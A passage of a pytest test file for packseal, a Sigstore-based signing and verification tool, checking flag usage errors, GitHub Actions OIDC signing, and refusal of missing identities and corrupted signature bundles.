    assert f"OK: {alice_file}" in result.stderr


# Usage errors and missing identity


# fmt: off
USAGE_ERRORS = {
    "identity without issuer": (
        ("--certificate-identity", ALICE),
        "give exactly one of --certificate-oidc-issuer",
    ),
    "issuer without identity": (
        ("--certificate-oidc-issuer", SigstoreInstance.email_issuer),
        "give exactly one of --certificate-identity",
    ),
    "exact and regexp identity": (
        (
            "--certificate-identity", ALICE, "--certificate-identity-regexp", "alice@.*",
            "--certificate-oidc-issuer", SigstoreInstance.email_issuer,
        ),
        "give exactly one of --certificate-identity and --certificate-identity-regexp",
    ),
    "bad identity regexp": (
        ("--certificate-identity-regexp", "alice@(",
         "--certificate-oidc-issuer", SigstoreInstance.email_issuer),
        "'alice@(': not a valid regular expression",
    ),
    "bad issuer regexp": (
        ("--certificate-identity", ALICE, "--certificate-oidc-issuer-regexp", "https://[oidc"),
        "'https://[oidc': not a valid regular expression",
    ),
    "staging with trust config": (
        ("--staging", "--trust-config", "{trust_config}", *("--certificate-identity", ALICE),
         "--certificate-oidc-issuer", SigstoreInstance.email_issuer),
        "--staging excludes --trust-config",
    ),
    "missing trust config": (
        ("--trust-config", "{missing}", *("--certificate-identity", ALICE),
         "--certificate-oidc-issuer", SigstoreInstance.email_issuer),
        "missing.json",
    ),
    "trust config that is not JSON": (
        ("--trust-config", "{not_json}", *("--certificate-identity", ALICE),
         "--certificate-oidc-issuer", SigstoreInstance.email_issuer),
        "not-json.json",
    ),
    "missing trusted root": (
        ("--trusted-root", "{missing}", "--offline", *("--certificate-identity", ALICE),
         "--certificate-oidc-issuer", SigstoreInstance.email_issuer),
        "missing.json",
    ),
}
# fmt: on
"""verify-bundle arguments (after the path) that ask wrongly, and what the error line must say."""


@pytest.mark.parametrize(("arguments", "message"), USAGE_ERRORS.values(), ids=USAGE_ERRORS.keys())
def test_verify_usage_error(
    packseal: Packseal,
    sigstore_instance: SigstoreInstance,
    alice_file: Path,
    tmp_path: Path,
    arguments: tuple[str, ...],
    message: str,
) -> None:
    (tmp_path / "not-json.json").write_text("{trustedRoot: ")
    names = {
        "trust_config": sigstore_instance.trust_config,
        "missing": tmp_path / "missing.json",
        "not_json": tmp_path / "not-json.json",
    }
    arguments = tuple(argument.format(**names) for argument in arguments)

    result = packseal("verify-bundle", alice_file, *arguments)

    assert_one_error_line(result, 2, message)


def test_sign_staging_with_trust_config_is_a_usage_error(
    packseal: Packseal, sigstore_instance: SigstoreInstance, tmp_path: Path
) -> None:
    artifact = tmp_path / "artifact.bin"
    artifact.write_bytes(b"x")
    token = sigstore_instance.mint_token(ALICE)

    result = packseal(
        "sign", artifact, "--sigstore", "--staging", "--identity-token", token,
        *online(sigstore_instance),
    )  # fmt: skip

    assert_one_error_line(result, 2, "--staging excludes --trust-config")
    assert list(tmp_path.iterdir()) == [artifact]


def test_sign_with_a_missing_trust_config_is_a_usage_error(
    packseal: Packseal, sigstore_instance: SigstoreInstance, tmp_path: Path
) -> None:
    artifact = tmp_path / "artifact.bin"
    artifact.write_bytes(b"x")
    token = sigstore_instance.mint_token(ALICE)

    result = packseal(
        "sign", artifact, "--sigstore", "--identity-token", token,
        "--trust-config", tmp_path / "missing.json",
    )  # fmt: skip

    assert_one_error_line(result, 2, "missing.json")
    assert list(tmp_path.iterdir()) == [artifact]


@pytest.mark.parametrize("kind", ["file", "directory"])
def test_sign_without_any_identity_refused(
    packseal: Packseal, sigstore_instance: SigstoreInstance, tmp_path: Path, kind: str
) -> None:
    """No token, no CI credential in the environment, stdin not a terminal: nothing to sign as."""
    target = write_pack(tmp_path / "pack") if kind == "directory" else tmp_path / "artifact.bin"
    if kind == "file":
        target.write_bytes(b"x")
    before = sorted(tmp_path.rglob("*"))

    result = packseal("sign", target, "--sigstore", *online(sigstore_instance))

    assert_one_error_line(result, 2, "no identity for keyless signing")
    assert sorted(tmp_path.rglob("*")) == before


# GitHub Actions ambient credential


def test_signs_with_the_github_actions_ambient_credential(
    packseal: Packseal, sigstore_instance: SigstoreInstance, tmp_path: Path
) -> None:
    """A job with `permissions: id-token: write` needs no --identity-token."""
    artifact = tmp_path / "artifact.bin"
    artifact.write_bytes(b"built in CI\n")
    job = sigstore_instance.github_actions_environment(repository=REPOSITORY, ref=REF, sha=SHA)

    signed = packseal("sign", artifact, "--sigstore", *online(sigstore_instance), environment=job)

    assert signed.returncode == 0, signed.stderr
    options = (*online(sigstore_instance), *workflow(sigstore_instance), *claims())
    verdict = verified(verify(packseal, artifact, *options))
    assert [signer["identity"] for signer in verdict["signers"]] == [WORKFLOW_IDENTITY]


@pytest.mark.parametrize(
    ("job", "message"),
    [
        (
            {"ACTIONS_ID_TOKEN_REQUEST_TOKEN": "not-this-jobs-token"},
            "OIDC token request failed (code=401",
        ),
        (
            {"ACTIONS_ID_TOKEN_REQUEST_TOKEN": ""},
            "ACTIONS_ID_TOKEN_REQUEST_TOKEN environment variable was unset",
        ),
    ],
    ids=["wrong-request-token", "no-id-token-permission"],
)
def test_github_actions_job_without_its_credential_refused(
    packseal: Packseal,
    sigstore_instance: SigstoreInstance,
    tmp_path: Path,
    job: dict[str, str],
    message: str,
) -> None:
    """The job is on GitHub Actions, but without the right to an ID token."""
    artifact = tmp_path / "artifact.bin"
    artifact.write_bytes(b"built in CI\n")
    ci = sigstore_instance.github_actions_environment(repository=REPOSITORY, ref=REF, sha=SHA)

    result = packseal("sign", artifact, "--sigstore", *online(sigstore_instance), environment=ci | job)

    assert_one_error_line(result, 2, message)
    assert list(tmp_path.iterdir()) == [artifact]


# Unreadable bundles


BAD_BUNDLES: dict[str, Callable[[bytes], bytes]] = {
    "garbage": lambda good: b"\x89PNG not a bundle\xff",
    "empty": lambda good: b"",
    "truncated": lambda good: good[: len(good) // 2],
    "json array": lambda good: b"[]",
    "wrong mediaType": lambda good: good.replace(
        MESSAGE_SIGNATURE_MEDIA_TYPE.encode(), b"application/vnd.dev.sigstore.bundle.v9+json"
    ),
}


@pytest.mark.parametrize("corrupt", BAD_BUNDLES.values(), ids=BAD_BUNDLES.keys())
def test_unreadable_file_bundle_refused(
    packseal: Packseal,
    sigstore_instance: SigstoreInstance,
    alice_file: Path,
    tmp_path: Path,
    corrupt: Callable[[bytes], bytes],
) -> None:
    artifact = copy_signed_file(alice_file, tmp_path)
    bundle = file_bundle(artifact)
    bundle.write_bytes(corrupt(bundle.read_bytes()))

    failed = refusal(verify(packseal, artifact, *online(sigstore_instance), *alice(sigstore_instance)))

    assert failed["name"] == "signature"
    assert failed["detail"].startswith(f"{bundle}: not a valid Sigstore bundle: "), failed["detail"]


def test_unreadable_directory_bundle_refused(
    packseal: Packseal, sigstore_instance: SigstoreInstance, alice_pack: Path, tmp_path: Path
) -> None:
    pack = copy_signed_pack(alice_pack, tmp_path)
    pack_bundle(pack).write_bytes(pack_bundle(pack).read_bytes()[:100])

    failed = refusal(verify(packseal, pack, *online(sigstore_instance), *alice(sigstore_instance)))

    assert failed["name"] == "signature"
    assert failed["detail"].startswith(f"{pack_bundle(pack)}: not a valid Sigstore bundle: ")
